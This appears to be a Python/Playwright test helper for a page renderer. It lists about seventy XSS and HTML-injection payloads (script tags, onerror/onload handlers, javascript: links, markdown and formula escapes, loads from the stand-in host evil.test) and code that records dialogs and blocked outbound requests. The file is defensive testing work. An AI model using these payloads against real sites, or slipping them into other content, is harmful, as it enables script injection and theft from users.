"""Texts that would run a script, ask the network or break a page, and what a browser makes of them.

Most show a dialog or ask for something of ``evil.test`` if any of it gets through.
"""

from pathlib import Path
from urllib.parse import unquote

from playwright.sync_api import Dialog, Page, Route

PAYLOADS = (
    # The issue's: the address swallowed the backslash that an escape had put before the tag.
    r"http://x.y/<img src=x onerror=alert(1)//>",
    r"http://x.y/\<img src=x onerror=alert(1)//>",
    r"https://x.y/a\\<svg onload=alert(1)>",
    # Tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml?><script>alert(1)</script>",
    "<script",
    "a <b title",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=//evil.test/x.png>",
    "<img/src=x/onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<div style='background:url(//evil.test/x.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.test/x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=//evil.test/><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<textarea><img src=x onerror=alert(1)>",
    "<table><td><img src=x onerror=alert(1)>",
    # Attributes
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onload="alert(1)" x="',
    "' onerror='alert(1)' x='",
    'x" src="//evil.test/x.png',
    "a src=//evil.test/x.png",
    # Markdown
    "[x](javascript:alert(1))",
    "![x](//evil.test/x.png)",
    "![x](x onerror=alert(1))",
    '[x](y "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "```<img src=x onerror=alert(1)>```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | x |",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    r"\x3cimg src=x onerror=alert(1)\x3e",
    # Formulas
    r"Lamp \(a_1 <b\)",
    r"Lamp \\(a_1 <b\\)",
    "$x$ and $",
    r"$\frac{<img src=x onerror=alert(1)>}$",
    r"$$\nonsense$$",
    r"\begin{align}\nonsense <b\end{align}",
)


# What a page of ours never has, whatever the browser makes of it.
ACTIVE = """() => [...document.querySelectorAll('*')].flatMap(e => [
  ...(e.matches('script, iframe, object, embed, form, input, base, video, audio')
      ? [e.outerHTML.slice(0, 80)] : []),
  ...[...e.attributes].filter(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value)
      && ['href', 'src', 'action'].includes(a.name)).map(a => `${e.tagName} ${a.name}`),
])"""
TEXT = "() => document.body.textContent + [...document.images].map(i => i.alt).join(' ')"


def incidents(page: Page, path: Path) -> list[str]:
    """What happens beyond showing the page: dialogs, and requests that leave it."""
    found: list[str] = []

    def on_route(route: Route) -> None:
        if unquote(route.request.url) == unquote(path.as_uri()):
            route.continue_()
        elif not route.request.url.startswith("data:"):
            found.append(f"request: {route.request.url[:80]}")
            route.abort()

    def on_dialog(dialog: Dialog) -> None:
        found.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.route("**/*", on_route)
    page.goto(path.as_uri(), wait_until="load")
    page.mouse.move(200, 200)
    page.wait_for_timeout(300)
    return found


def shown(page: Page) -> str:
    """The text of a page, with that of its figures, in one line."""
    return " ".join(page.evaluate(TEXT).split())
